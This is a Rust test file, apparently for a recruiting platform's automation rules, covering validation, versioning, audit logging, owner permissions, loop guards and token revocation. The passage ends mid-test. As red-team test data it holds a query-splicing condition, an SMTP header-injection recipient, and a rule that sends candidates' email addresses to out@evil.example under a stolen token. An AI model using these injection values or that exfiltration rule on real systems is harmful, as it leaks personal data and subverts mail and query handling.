//! Automation rules (docs/automation.md) on a generated org, on SQLite and, with
//! `HIREPLANE_TEST_POSTGRES`, PostgreSQL:
//! - a save checks the whole rule as its owner before anything is stored, and each error names
//!   where (the JSON path; the byte inside a condition); only admins manage rules;
//! - saves are versions (a stale version is refused), each in the audit log;
//! - a rule runs as its owner: a subject the owner may not see never passes, and a condition
//!   that is false queues nothing; both are recorded with the reason;
//! - the dispatcher queues one rule job per triggering event, once, for events after the rule;
//! - a dry run tells which rules an event triggers and why.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::common;

use app::automation::{SaveRule, Step};
use app::hiring::MoveApplication;
use app::{Access, AppError, Services};
use common::Fresh;
use domain::{Id, Instant};
use store::{AuditQuery, Store};

const ORG: &str = "auto";

fn now() -> Instant {
    Instant::from_timestamp(jiff::Timestamp::now())
}

struct Org {
    services: Services,
    admin: Access,
    interviewer: Access,
    recruiter: Access,
}

fn org(f: &mut Fresh) -> Org {
    let generated = common::generate(ORG, 60, 11);
    f.import(generated.dir.path());
    let services = Services::new();
    let users = f.store().active_users(ORG).unwrap();
    let of_role = |role: &str| users.iter().find(|u| u.role == role).unwrap().id.clone();
    let admin = services.access(f.store(), ORG, &of_role("admin")).unwrap();
    let interviewer = services
        .access(f.store(), ORG, &of_role("interviewer"))
        .unwrap();
    let recruiter = services
        .access(f.store(), ORG, &of_role("recruiter"))
        .unwrap();
    Org {
        services,
        admin,
        interviewer,
        recruiter,
    }
}

/// The ids a report's first column lists, run as `access`.
fn ids(o: &Org, store: &mut Store, access: &Access, report: &str) -> Vec<String> {
    let report = query_syntax::parse(report).unwrap();
    let run = o
        .services
        .run_report_as(store, access.clone(), &report, None, now())
        .unwrap();
    run.rows
        .rows
        .iter()
        .map(|r| r[0].to_json().as_str().unwrap().to_owned())
        .collect()
}

fn save(
    o: &Org,
    store: &mut Store,
    by: &Access,
    definition: &str,
) -> Result<store::automation::StoredRule, AppError> {
    o.services.save_rule(
        store,
        by,
        SaveRule {
            id: None,
            expected_version: None,
            definition: definition.to_owned(),
            reason: "test".to_owned(),
            token: None,
        },
        now(),
    )
}

/// The field and message of an `Invalid` refusal.
fn invalid(e: AppError) -> (String, String) {
    match e {
        AppError::Invalid { field, message } => (field, message),
        other => panic!("expected an invalid input, got {other:?}"),
    }
}

fn saving_checks_the_whole_rule(mut f: Fresh) {
    let o = org(&mut f);
    let store = f.store();
    let ok = r#"{"name": "offer", "when": "application.moved",
        "if": "current_stage.kind = \"offer\"",
        "then": [{"do": "email", "to": ["recruiter"], "subject": "{{ candidate.name }}", "body": "{{ job.title }}"}]}"#;
    // Only admins (whoever may edit the org) manage rules.
    let e = save(&o, store, &o.recruiter, ok).unwrap_err();
    assert!(matches!(e, AppError::Forbidden { .. }), "{e:?}");

    let cases = [
        (
            r#"{"name": "x", "when": "application.moveed", "then": [{"do": "request_feedback"}]}"#,
            "definition.when",
            "did you mean `application.moved`",
        ),
        (
            r#"{"name": "x", "when": "application.moved", "if": "current_stage.kind = \"ofer\"", "then": [{"do": "request_feedback"}]}"#,
            "definition.if",
            "at byte",
        ),
        (
            r#"{"name": "x", "when": "application.moved", "if": "nonsense_field = 1", "then": [{"do": "request_feedback"}]}"#,
            "definition.if",
            "at byte 0",
        ),
        // One condition, nothing spliced after it (red team, pass 15).
        (
            r#"{"name": "x", "when": "application.moved", "if": "status = \"active\" show id limit 0 #", "then": [{"do": "request_feedback"}]}"#,
            "definition.if",
            "one condition on the record",
        ),
        (
            r#"{"name": "x", "when": "application.moved", "if": "status = \"active\" where id = \"x\"", "then": [{"do": "request_feedback"}]}"#,
            "definition.if",
            "one condition on the record",
        ),
        (
            r#"{"name": "x", "when": "application.moved", "then": [{"do": "email", "to": ["owner"], "subject": "{{ candidate.nam }}", "body": ""}]}"#,
            "definition.then[0].subject",
            "candidate.nam",
        ),
        (
            r#"{"name": "x", "when": "application.moved", "then": [{"do": "move", "to_stage": "no_such_stage"}]}"#,
            "definition.then[0].to_stage",
            "no stage `no_such_stage`",
        ),
        (
            r#"{"name": "x", "when": "application.moved", "then": [{"do": "archive", "reason": "Bored"}]}"#,
            "definition.then[0].reason",
            "archive reasons",
        ),
        (
            r#"{"name": "x", "when": "job.created", "then": [{"do": "archive", "reason": "Bored"}]}"#,
            "definition.then[0]",
            "acts on an application",
        ),
        (
            r#"{"name": "x", "when": "custom_field.created", "if": "id = \"x\"", "then": [{"do": "webhook", "url": "http://127.0.0.1:1/", "secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}]}"#,
            "definition.if",
            "about the org",
        ),
        (
            r#"{"name": "x", "when": "application.moved", "owner": "nobody", "then": [{"do": "request_feedback"}]}"#,
            "definition.owner",
            "no active user",
        ),
        (
            r#"{"name": "x", "when": "application.moved", "then": [{"do": "email", "to": ["x@y.example>\r\nRCPT TO:<z@w.example"], "subject": "", "body": ""}]}"#,
            "definition.then[0].to[0]",
            "no recipient",
        ),
    ];
    for (definition, field, needle) in cases {
        let (got_field, message) = invalid(save(&o, store, &o.admin, definition).unwrap_err());
        assert_eq!(got_field, field, "{definition}: {message}");
        assert!(message.contains(needle), "{definition}: {message}");
    }
    assert!(
        store.rules(ORG, true).unwrap().is_empty(),
        "a refused save stores nothing"
    );

    // Saved; a new version needs the version read.
    let saved = save(&o, store, &o.admin, ok).unwrap();
    assert_eq!(saved.version, 1);
    assert_eq!(saved.owner_user_id, o.admin.viewer.user);
    let again = |version| SaveRule {
        id: Some(saved.id.clone()),
        expected_version: Some(version),
        definition: ok.replace("\"offer\", \"when\"", "\"offer 2\", \"when\""),
        reason: "rename".to_owned(),
        token: None,
    };
    let v2 = o
        .services
        .save_rule(store, &o.admin, again(1), now())
        .unwrap();
    assert_eq!(v2.version, 2);
    let stale = o
        .services
        .save_rule(store, &o.admin, again(1), now())
        .unwrap_err();
    assert!(matches!(stale, AppError::Conflict { .. }), "{stale:?}");
    let (_, versions) = o
        .services
        .automation_rule(store, &o.admin, &saved.id, now())
        .unwrap();
    assert_eq!(
        versions.iter().map(|v| v.version).collect::<Vec<_>>(),
        [1, 2]
    );
    assert_eq!(versions[1].reason, "rename");
    let deleted = o
        .services
        .delete_rule(store, &o.admin, &saved.id, None, "done", now())
        .unwrap();
    assert!(deleted.deleted && !deleted.enabled && deleted.version == 3);
    assert!(
        o.services
            .automation_rules(store, &o.admin, false, now())
            .unwrap()
            .is_empty()
    );
    // Every change is in the audit log.
    let audit = store.audit(ORG, &AuditQuery::latest(100)).unwrap();
    let actions: Vec<&str> = audit
        .iter()
        .map(|(_, e)| e)
        .filter(|e| e.subject == format!("rule/{}", saved.id))
        .map(|e| e.action.as_str())
        .collect();
    assert_eq!(
        actions
            .iter()
            .filter(|a| **a == "saveAutomationRule")
            .count(),
        2,
        "{actions:?}"
    );
    assert_eq!(
        actions
            .iter()
            .filter(|a| **a == "deleteAutomationRule")
            .count(),
        1
    );
}

#[test]
fn saving_checks_the_whole_rule_on_sqlite() {
    saving_checks_the_whole_rule(common::sqlite());
}

#[test]
#[cfg_attr(
    not(hp_postgres),
    ignore = "set HIREPLANE_TEST_POSTGRES to run against PostgreSQL"
)]
fn saving_checks_the_whole_rule_on_postgres() {
    saving_checks_the_whole_rule(common::postgres());
}

/// A rule job for `subject`, as the dispatcher queues it.
fn rule_job(rule: &str, version: i64, event: &str, subject: &str) -> store::jobs::Job {
    store::jobs::Job {
        id: 1,
        org_id: ORG.to_owned(),
        kind: app::automation::RULE_JOB.to_owned(),
        payload: serde_json::json!({
            "rule": rule, "version": version, "event": event, "seq": 1,
            "type": "hireplane.application.moved.v1", "subject": subject,
        }),
        attempt: 1,
        max_attempts: 10,
        unique_key: None,
        enqueued_at: now(),
        run_at: now(),
    }
}

fn rules_run_as_their_owner(mut f: Fresh) {
    let o = org(&mut f);
    let store = f.store();
    let all = ids(&o, store, &o.admin, "report applications show id");
    let seen = ids(&o, store, &o.interviewer, "report applications show id");
    let hidden = all
        .iter()
        .find(|a| !seen.contains(a))
        .expect("an application hidden from the interviewer");
    let definition = format!(
        r#"{{"name": "as interviewer", "when": "application.moved", "owner": "{}",
            "then": [{{"do": "webhook", "url": "http://127.0.0.1:9/", "secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}}]}}"#,
        o.interviewer.viewer.user
    );
    let rule = save(&o, store, &o.admin, &definition).unwrap();
    let step = o.services.run_rule_job(
        store,
        &rule_job(
            &rule.id,
            rule.version,
            "ev-hidden",
            &format!("application/{hidden}"),
        ),
        now(),
    );
    assert!(matches!(step, Step::Done(_)), "{step:?}");
    // An admin's rule whose condition is false for the subject.
    let active = ids(
        &o,
        store,
        &o.admin,
        "report applications where status = \"active\" show id",
    );
    let never = save(
        &o,
        store,
        &o.admin,
        r#"{"name": "never", "when": "application.moved", "if": "status = \"hired\" and status = \"archived\"",
            "then": [{"do": "request_feedback"}]}"#,
    )
    .unwrap();
    let subject = format!("application/{}", active[0]);
    o.services
        .run_rule_job(store, &rule_job(&never.id, 1, "ev-false", &subject), now());
    let runs = store.rule_runs(ORG, None, 10).unwrap();
    let of = |rule: &str| runs.iter().find(|r| r.rule_id == rule).unwrap();
    assert_eq!(of(&rule.id).outcome, "skipped");
    assert!(
        of(&rule.id).detail.contains("may not see"),
        "{:?}",
        of(&rule.id)
    );
    assert_eq!(of(&never.id).outcome, "skipped");
    assert!(of(&never.id).detail.contains("condition is false"));
    // A job run again (after a crash) does not change what was recorded.
    o.services
        .run_rule_job(store, &rule_job(&never.id, 1, "ev-false", &subject), now());
    assert_eq!(store.rule_runs(ORG, Some(&never.id), 10).unwrap().len(), 1);

    // The dry run of a real event says the same, with reasons.
    let job = ids(
        &o,
        store,
        &o.admin,
        &format!(
            "report applications where id = \"{}\" show job.id",
            active[0]
        ),
    )[0]
    .clone();
    let stage = ids(
        &o,
        store,
        &o.admin,
        &format!("report stages where job.id = \"{job}\" where kind != \"hired\" show id"),
    );
    let current = ids(
        &o,
        store,
        &o.admin,
        &format!(
            "report applications where id = \"{}\" show current_stage.id",
            active[0]
        ),
    )[0]
    .clone();
    let to = stage.iter().find(|s| **s != current).unwrap();
    o.services
        .move_application(
            store,
            &o.admin,
            MoveApplication {
                application_id: Id::parse(active[0].clone()).unwrap(),
                to_stage_id: Id::parse(to.clone()).unwrap(),
            },
            now(),
        )
        .unwrap();
    let event = store
        .outbox_events(
            ORG,
            &store::EventQuery {
                after_seq: 0,
                types: vec!["hireplane.application.moved.v1".to_owned()],
                limit: 10_000,
            },
        )
        .unwrap()
        .pop()
        .unwrap();
    let dry = o
        .services
        .dry_run(store, &o.admin, &event.id, None, now())
        .unwrap();
    let never_row = dry.iter().find(|d| d.rule_id == never.id).unwrap();
    assert!(
        !never_row.fires && never_row.why.contains("condition is false"),
        "{never_row:?}"
    );
    let unsaved = o
        .services
        .dry_run(
            store,
            &o.admin,
            &event.id,
            Some(r#"{"name": "any move", "when": "application.moved", "after": "1h", "then": [{"do": "request_feedback"}]}"#),
            now(),
        )
        .unwrap();
    assert!(unsaved[0].fires, "{unsaved:?}");
    assert!(unsaved[0].due.unwrap().as_micros() >= event.time.as_micros() + 3_600_000_000);
    let other_type = o
        .services
        .dry_run(
            store,
            &o.admin,
            &event.id,
            Some(r#"{"name": "hires", "when": "application.hired", "then": [{"do": "request_feedback"}]}"#),
            now(),
        )
        .unwrap();
    assert!(!other_type[0].fires && other_type[0].why.contains("application.hired"));
    // An unsaved rule is checked as saving checks it: a condition that does not compile is
    // the caller's mistake at its field (red team, pass 18: it was INTERNAL).
    let e = o
        .services
        .dry_run(
            store,
            &o.admin,
            &event.id,
            Some(r#"{"name": "g", "when": "application.moved", "if": "candidate.demographics.gender = \"x\"", "then": [{"do": "request_feedback"}]}"#),
            now(),
        )
        .unwrap_err();
    let (field, message) = invalid(e);
    assert_eq!(field, "definition.if", "{message}");
    assert!(message.contains("demographic"), "{message}");
    // Only admins may dry-run.
    assert!(
        o.services
            .dry_run(store, &o.recruiter, &event.id, None, now())
            .is_err()
    );
}

#[test]
fn rules_run_as_their_owner_on_sqlite() {
    rules_run_as_their_owner(common::sqlite());
}

#[test]
#[cfg_attr(
    not(hp_postgres),
    ignore = "set HIREPLANE_TEST_POSTGRES to run against PostgreSQL"
)]
fn rules_run_as_their_owner_on_postgres() {
    rules_run_as_their_owner(common::postgres());
}

/// What the rules asked of the outside, recorded (the real transports are tested in crate
/// `effects` against real receivers; here what `app` asks for is the point).
#[derive(Default)]
struct Recorded {
    emails: std::sync::Mutex<Vec<app::automation::OutgoingEmail>>,
    calendar: std::sync::Mutex<Vec<app::automation::OutgoingCalendarEvent>>,
}

impl app::automation::Outside for Recorded {
    fn email(
        &self,
        email: &app::automation::OutgoingEmail,
    ) -> Result<(), app::automation::EffectError> {
        self.emails.lock().unwrap().push(email.clone());
        Ok(())
    }
    fn webhook(
        &self,
        _: &app::automation::OutgoingWebhook,
    ) -> Result<(), app::automation::EffectError> {
        Ok(())
    }
    fn calendar_put(
        &self,
        event: &app::automation::OutgoingCalendarEvent,
    ) -> Result<(), app::automation::EffectError> {
        self.calendar.lock().unwrap().push(event.clone());
        Ok(())
    }
}

/// Dispatches and runs every due job (as the worker pool would), bounded; returns the action
/// jobs run.
fn run_jobs(o: &Org, store: &mut Store, outside: &Recorded) -> Vec<store::jobs::Job> {
    let mut actions = Vec::new();
    for _ in 0..20 {
        // Actions make events too (a move): their rules are dispatched in the next round.
        o.services.dispatch_automation(store, now()).unwrap();
        let at = now();
        let lease = Instant::from_micros(at.as_micros() + 60_000_000).unwrap();
        let jobs = store.claim_jobs("test", 50, at, lease).unwrap();
        if jobs.is_empty() {
            break;
        }
        for job in jobs {
            let step = match job.kind.as_str() {
                app::automation::RULE_JOB => o.services.run_rule_job(store, &job, now()),
                app::automation::ACTION_JOB => {
                    actions.push(job.clone());
                    o.services.run_action_job(store, outside, &job, now())
                }
                other => panic!("a job of kind {other}"),
            };
            assert!(matches!(step, Step::Done(_)), "{step:?} for {job:?}");
            assert!(store.complete_job(job.id, "test", now()).unwrap());
        }
    }
    actions
}

fn actions_run_as_their_owner(mut f: Fresh) {
    let o = org(&mut f);
    let store = f.store();
    let open = ids(
        &o,
        store,
        &o.admin,
        "report jobs where status = \"open\" show id",
    );
    let candidate = o
        .services
        .create_candidate(
            store,
            &o.admin,
            app::hiring::CreateCandidate {
                name: "Ada Automation".to_owned(),
                email: Some("hidden-7731@example.com".to_owned()),
                phone: None,
                location: None,
                timezone: None,
                tags: Vec::new(),
                custom_fields: serde_json::Map::new(),
                job_id: Some(Id::parse(open[0].clone()).unwrap()),
                source_id: None,
            },
            now(),
        )
        .unwrap();
    let application = ids(
        &o,
        store,
        &o.admin,
        &format!("report applications where candidate.id = \"{candidate}\" show id"),
    )[0]
    .clone();
    let current = ids(
        &o,
        store,
        &o.admin,
        &format!("report applications where id = \"{application}\" show current_stage.id"),
    )[0]
    .clone();
    let other = ids(
        &o,
        store,
        &o.admin,
        &format!(
            "report stages where job.id = \"{}\" where kind != \"hired\" show id",
            open[0]
        ),
    )
    .into_iter()
    .find(|s| *s != current)
    .unwrap();
    let interviewer = o.interviewer.viewer.user.clone();
    save(
        &o,
        store,
        &o.admin,
        &format!(
            r#"{{"name": "tell the interviewer", "when": "interview.scheduled", "owner": "{interviewer}",
                "then": [
                  {{"do": "email", "to": ["owner"], "subject": "{{{{ application.candidate.name }}}} <{{{{ application.candidate.email }}}}>", "body": "{{{{ title }}}}"}},
                  {{"do": "request_feedback"}},
                  {{"do": "calendar_event", "calendar": "http://127.0.0.1:9/cal/"}}
                ]}}"#
        ),
    )
    .unwrap();
    save(
        &o,
        store,
        &o.admin,
        &format!(
            r#"{{"name": "move on", "when": "interview.scheduled", "then": [{{"do": "move", "to_stage": "{other}"}}]}}"#
        ),
    )
    .unwrap();
    let tomorrow = jiff::Timestamp::now() + jiff::SignedDuration::from_hours(24);
    let plan = serde_json::json!({
        "loop": {"sessions": [{"id": "technical", "duration_minutes": 60,
            "seats": [{"person": interviewer}]}]},
        "candidate": {"min_notice_minutes": 1440, "horizon_days": 10,
            "windows": [[tomorrow.to_string(), (tomorrow + jiff::SignedDuration::from_hours(240)).to_string()]]}
    });
    let looped = save(
        &o,
        store,
        &o.admin,
        &serde_json::json!({"name": "book the loop", "when": "application.moved",
            "then": [{"do": "schedule_loop", "stage": other, "plan": plan}]})
        .to_string(),
    )
    .unwrap();
    // A completed interview with the interviewer, as recorded after the fact.
    let ended = Instant::from_micros(now().as_micros() - 3_600_000_000).unwrap();
    let started = Instant::from_micros(ended.as_micros() - 3_600_000_000).unwrap();
    o.services
        .schedule_interview(
            store,
            &o.admin,
            app::hiring::ScheduleInterview {
                application_id: Id::parse(application.clone()).unwrap(),
                stage_id: Id::parse(current.clone()).unwrap(),
                title: "Systems design".to_owned(),
                starts_at: started,
                ends_at: ended,
                status: domain::enums::InterviewStatus::Completed,
                interview_participants: vec![domain::entity::InterviewParticipant {
                    user_id: Id::parse(interviewer.clone()).unwrap(),
                    role: domain::enums::InterviewerRole::Interviewer,
                }],
            },
            now(),
        )
        .unwrap();
    let outside = Recorded::default();
    let actions = run_jobs(&o, store, &outside);
    // 3 + 1 actions for the completed interview, 1 for the move, and the loop booked is an
    // interview scheduled too: its rules run again (3 + 1, the move already made).
    assert_eq!(actions.len(), 9, "{actions:?}");
    // The loop booked in the stage the application moved to, once.
    let booked = |store: &mut Store| {
        ids(
            &o,
            store,
            &o.admin,
            &format!(
                "report interviews where application.id = \"{application}\" where stage.id = \"{other}\" where status = \"scheduled\" show id"
            ),
        )
    };
    assert_eq!(booked(store).len(), 1);
    let scheduler = actions
        .iter()
        .find(|j| j.payload["action"]["do"] == "schedule_loop")
        .unwrap();
    assert_eq!(scheduler.payload["rule"], looped.id.as_str());
    let again = o.services.run_action_job(store, &outside, scheduler, now());
    assert!(
        matches!(&again, Step::Done(what) if what.contains("already has interviews")),
        "{again:?}"
    );
    assert_eq!(booked(store).len(), 1);
    let interviewer_email = ids(
        &o,
        store,
        &o.admin,
        &format!("report users where id = \"{interviewer}\" show email"),
    )[0]
    .clone();
    let emails = outside.emails.lock().unwrap().clone();
    // The template read as the interviewer: the name, never the contact details.
    let notice = emails.iter().find(|e| e.body == "Systems design").unwrap();
    assert_eq!(notice.to, vec![interviewer_email.clone()]);
    assert_eq!(notice.subject, "Ada Automation <[hidden]>");
    assert!(
        emails
            .iter()
            .all(|e| !e.subject.contains("hidden-7731") && !e.body.contains("hidden-7731"))
    );
    // Feedback asked of the interviewer, who has written none.
    let ask = emails
        .iter()
        .find(|e| e.subject.starts_with("Feedback requested"))
        .unwrap();
    assert_eq!(ask.to, vec![interviewer_email]);
    assert!(ask.subject.contains("Ada Automation"), "{ask:?}");
    // The calendar event: the interview's UID, its time, the interviewer attending.
    let put = outside.calendar.lock().unwrap()[0].clone();
    assert!(
        put.uid.ends_with("@hireplane")
            && put.ics.contains("SUMMARY:Systems design: Ada Automation"),
        "{put:?}"
    );
    assert!(put.ics.contains("DTSTART:") && put.ics.contains("STATUS:CONFIRMED"));
    // The move happened once; its job run again (a worker that died after the commit) moves
    // nothing more.
    let transitions = |store: &mut Store| {
        ids(
            &o,
            store,
            &o.admin,
            &format!("report stage_transitions where application.id = \"{application}\" show id"),
        )
        .len()
    };
    let stage_now = ids(
        &o,
        store,
        &o.admin,
        &format!("report applications where id = \"{application}\" show current_stage.id"),
    );
    assert_eq!(stage_now, vec![other.clone()]);
    let before = transitions(store);
    let mover = actions
        .iter()
        .find(|j| j.payload["action"]["do"] == "move")
        .unwrap();
    let again = o.services.run_action_job(store, &outside, mover, now());
    assert!(
        matches!(&again, Step::Done(what) if what.starts_with("not moved")),
        "{again:?}"
    );
    assert_eq!(transitions(store), before);
}

#[test]
fn actions_run_as_their_owner_on_sqlite() {
    actions_run_as_their_owner(common::sqlite());
}

#[test]
#[cfg_attr(
    not(hp_postgres),
    ignore = "set HIREPLANE_TEST_POSTGRES to run against PostgreSQL"
)]
fn actions_run_as_their_owner_on_postgres() {
    actions_run_as_their_owner(common::postgres());
}

/// An active application and the stages of its job that are not `hired`.
fn active_application_and_stages(o: &Org, store: &mut Store) -> (String, Vec<String>) {
    let active = ids(
        o,
        store,
        &o.admin,
        "report applications where status = \"active\" show id",
    );
    let application = active[0].clone();
    let job = ids(
        o,
        store,
        &o.admin,
        &format!("report applications where id = \"{application}\" show job.id"),
    )[0]
    .clone();
    let stages = ids(
        o,
        store,
        &o.admin,
        &format!("report stages where job.id = \"{job}\" where kind != \"hired\" show id"),
    );
    (application, stages)
}

/// Moves `application` as the admin to the first of `stages` that takes it (not the stage it
/// is in).
fn move_to_one_of(o: &Org, store: &mut Store, application: &str, stages: &[String]) {
    let moved = stages.iter().find_map(|s| {
        o.services
            .move_application(
                store,
                &o.admin,
                MoveApplication {
                    application_id: Id::parse(application.to_owned()).unwrap(),
                    to_stage_id: Id::parse(s.clone()).unwrap(),
                },
                now(),
            )
            .ok()
    });
    assert!(moved.is_some(), "no move of `{application}` was taken");
}

fn rules_that_trigger_each_other_stop(mut f: Fresh) {
    let o = org(&mut f);
    let store = f.store();
    let (application, stages) = active_application_and_stages(&o, store);
    let (a, b) = (stages[0].clone(), stages[1].clone());
    // Back and forth between two stages, forever, were it not for the guard.
    for (from, to) in [(&a, &b), (&b, &a)] {
        save(&o, store, &o.admin, &format!(
            r#"{{"name": "ping {to}", "when": "application.moved", "if": "current_stage.id = \"{from}\"", "then": [{{"do": "move", "to_stage": "{to}"}}]}}"#
        )).unwrap();
    }
    move_to_one_of(&o, store, &application, &[a.clone(), b.clone()]);
    let outside = Recorded::default();
    for _ in 0..10 {
        run_jobs(&o, store, &outside);
    }
    let runs = store.rule_runs(ORG, None, 1000).unwrap();
    let fired = runs.iter().filter(|r| r.outcome == "fired").count();
    assert!(
        fired <= app::automation::MAX_CHAIN as usize,
        "{fired} fired"
    );
    assert!(
        runs.iter().any(|r| r.detail.starts_with("loop guard")),
        "{runs:?}"
    );
    // Nothing is left to run: the loop stopped.
    o.services.dispatch_automation(store, now()).unwrap();
    let at = now();
    let lease = Instant::from_micros(at.as_micros() + 60_000_000).unwrap();
    let left = store.claim_jobs("test", 50, at, lease).unwrap();
    assert!(
        left.iter().all(|j| j.kind == app::automation::RULE_JOB),
        "{left:?}"
    );
}

#[test]
fn rules_that_trigger_each_other_stop_on_sqlite() {
    rules_that_trigger_each_other_stop(common::sqlite());
}

#[test]
#[cfg_attr(
    not(hp_postgres),
    ignore = "set HIREPLANE_TEST_POSTGRES to run against PostgreSQL"
)]
fn rules_that_trigger_each_other_stop_on_postgres() {
    rules_that_trigger_each_other_stop(common::postgres());
}

/// "2 hours after a move, if still active": the rule job waits for its time, and the
/// condition is checked then (the application archived meanwhile: nothing fires).
/// One rule of four moves on `application.moved`: each move it makes fires it again, four times
/// (red team, pass 15: 278 events and 682 jobs from one person's move, the chain's length the
/// only bound). The fan-out budget stops it after `MAX_CHAINED_RUNS` runs on the application.
fn rules_that_fan_out_stop(mut f: Fresh) {
    let o = org(&mut f);
    let store = f.store();
    let (application, stages) = active_application_and_stages(&o, store);
    assert!(stages.len() >= 4, "{stages:?}");
    let moves: Vec<String> = stages[..4]
        .iter()
        .map(|s| format!(r#"{{"do": "move", "to_stage": "{s}"}}"#))
        .collect();
    // Ten such rules: each event an action makes queues a job of each (red team, pass 17: 60
    // rules of ten moves made 13,980 jobs from one move, the fired runs bounded).
    const RULES: usize = 10;
    for k in 0..RULES {
        save(&o, store, &o.admin, &format!(
            r#"{{"name": "fan out {k}", "when": "application.moved", "if": "id = \"{application}\"", "then": [{}]}}"#,
            moves.join(", ")
        ))
        .unwrap();
    }
    move_to_one_of(&o, store, &application, &stages);
    let outside = Recorded::default();
    for _ in 0..10 {
        run_jobs(&o, store, &outside);
    }
    let runs = store.rule_runs(ORG, None, 10_000).unwrap();
    let subject = format!("application/{application}");
    let fired = runs
        .iter()
        .filter(|r| r.outcome == "fired" && r.subject == subject)
        .count();
    assert!(
        fired <= app::automation::MAX_CHAINED_RUNS as usize + RULES,
        "{fired} runs fired on `{subject}`"
    );
    // Every rule job leaves a run: the dispatch's budget bounds them, with one pass's worth
    // queued before the runs it counts are recorded.
    let ran = runs.iter().filter(|r| r.subject == subject).count();
    assert!(
        ran <= 2 * app::automation::MAX_CHAINED_JOBS as usize + RULES,
        "{ran} rule runs on `{subject}`"
    );
    assert!(
        runs.iter()
            .any(|r| r.detail.starts_with("loop guard: rules fired")),
        "{runs:?}"
    );
}

#[test]
fn rules_that_fan_out_stop_on_sqlite() {
    rules_that_fan_out_stop(common::sqlite());
}

#[test]
#[cfg_attr(
    not(hp_postgres),
    ignore = "set HIREPLANE_TEST_POSTGRES to run against PostgreSQL"
)]
fn rules_that_fan_out_stop_on_postgres() {
    rules_that_fan_out_stop(common::postgres());
}

fn delayed_rules_check_when_due(mut f: Fresh) {
    let o = org(&mut f);
    let store = f.store();
    let active = ids(
        &o,
        store,
        &o.admin,
        "report applications where status = \"active\" show id",
    );
    let application = active[0].clone();
    let job = ids(
        &o,
        store,
        &o.admin,
        &format!("report applications where id = \"{application}\" show job.id"),
    )[0]
    .clone();
    let current = ids(
        &o,
        store,
        &o.admin,
        &format!("report applications where id = \"{application}\" show current_stage.id"),
    )[0]
    .clone();
    let to = ids(
        &o,
        store,
        &o.admin,
        &format!("report stages where job.id = \"{job}\" where kind != \"hired\" show id"),
    )
    .into_iter()
    .find(|s| *s != current)
    .unwrap();
    let rule = save(
        &o,
        store,
        &o.admin,
        r#"{"name": "still active 2 hours later", "when": "application.moved",
        "if": "status = \"active\"", "after": "2h", "then": [{"do": "request_feedback"}]}"#,
    )
    .unwrap();
    o.services
        .move_application(
            store,
            &o.admin,
            MoveApplication {
                application_id: Id::parse(application.clone()).unwrap(),
                to_stage_id: Id::parse(to).unwrap(),
            },
            now(),
        )
        .unwrap();
    o.services.dispatch_automation(store, now()).unwrap();
    let lease = |at: Instant| Instant::from_micros(at.as_micros() + 60_000_000).unwrap();
    let at = now();
    assert!(
        store
            .claim_jobs("test", 10, at, lease(at))
            .unwrap()
            .is_empty(),
        "due only in 2 hours"
    );
    // Archived meanwhile.
    let reason = store.archive_reasons(ORG).unwrap()[0].clone();
    o.services
        .archive_application(
            store,
            &o.admin,
            app::hiring::ArchiveApplication {
                application_id: Id::parse(application.clone()).unwrap(),
                reason,
            },
            now(),
        )
        .unwrap();
    let later = Instant::from_micros(now().as_micros() + 2 * 3_600_000_000 + 1_000_000).unwrap();
    let jobs = store.claim_jobs("test", 10, later, lease(later)).unwrap();
    assert_eq!(jobs.len(), 1, "{jobs:?}");
    assert_eq!(jobs[0].payload["rule"], rule.id.as_str());
    let step = o.services.run_rule_job(store, &jobs[0], later);
    assert!(matches!(step, Step::Done(_)), "{step:?}");
    let runs = store.rule_runs(ORG, Some(&rule.id), 10).unwrap();
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0].outcome, "skipped");
    assert!(runs[0].detail.contains("condition is false"), "{runs:?}");
}

#[test]
fn delayed_rules_check_when_due_on_sqlite() {
    delayed_rules_check_when_due(common::sqlite());
}

#[test]
#[cfg_attr(
    not(hp_postgres),
    ignore = "set HIREPLANE_TEST_POSTGRES to run against PostgreSQL"
)]
fn delayed_rules_check_when_due_on_postgres() {
    delayed_rules_check_when_due(common::postgres());
}

/// Revoking the API token a rule was saved with disables the rule, as a new version by the
/// operator saying why, and its actions already queued do nothing; a rule saved otherwise runs
/// on; the revoked token saves and invites nothing more, also when a request it made was let
/// in before the revocation (red team, pass 18: a rule saved with a stolen token mailed
/// candidates' contact details out after the revocation).
fn a_revoked_tokens_rules_stop(mut f: Fresh) {
    let o = org(&mut f);
    let store = f.store();
    let admin = o.admin.viewer.user.clone();
    let stolen = o
        .services
        .create_token(store, ORG, &admin, "laptop", None, now())
        .unwrap();
    let rule = |name: &str, to: &str| {
        format!(
            r#"{{"name": "{name}", "when": "application.moved", "then": [{{"do": "email", "to": ["{to}"], "subject": "{{{{ candidate.name }}}}", "body": "{{{{ candidate.email }}}}"}}]}}"#
        )
    };
    let save_with = |store: &mut Store, name: &str, to: &str, token: Option<&str>| {
        o.services.save_rule(
            store,
            &o.admin,
            SaveRule {
                id: None,
                expected_version: None,
                definition: rule(name, to),
                reason: "test".to_owned(),
                token: token.map(str::to_owned),
            },
            now(),
        )
    };
    let exfil = save_with(store, "exfil", "out@evil.example", Some(&stolen.stored.id)).unwrap();
    let kept = save_with(store, "kept", "team@acme.example", None).unwrap();

    // A move fires both rules; their action jobs are queued, not run yet.
    let (application, stages) = active_application_and_stages(&o, store);
    move_to_one_of(&o, store, &application, &stages);
    o.services.dispatch_automation(store, now()).unwrap();
    let at = now();
    let lease = Instant::from_micros(at.as_micros() + 60_000_000).unwrap();
    for job in store.claim_jobs("test", 50, at, lease).unwrap() {
        assert_eq!(job.kind, app::automation::RULE_JOB, "{job:?}");
        let step = o.services.run_rule_job(store, &job, now());
        assert!(matches!(step, Step::Done(_)), "{step:?}");
        assert!(store.complete_job(job.id, "test", now()).unwrap());
    }

    assert!(store.revoke_token(ORG, &stolen.stored.id, now()).unwrap());
    let disabled = store.rule(ORG, &exfil.id).unwrap().unwrap();
    assert!(!disabled.enabled && !disabled.deleted, "{disabled:?}");
    assert_eq!(
        (disabled.version, disabled.updated_by.as_str()),
        (2, "operator")
    );
    let last = store.rule_versions(ORG, &exfil.id).unwrap();
    let last = last.iter().find(|v| v.version == 2).unwrap();
    assert!(
        !last.enabled && last.reason.contains(&stolen.stored.id) && last.reason.contains("revoked"),
        "{last:?}"
    );
    assert!(store.rule(ORG, &kept.id).unwrap().unwrap().enabled);

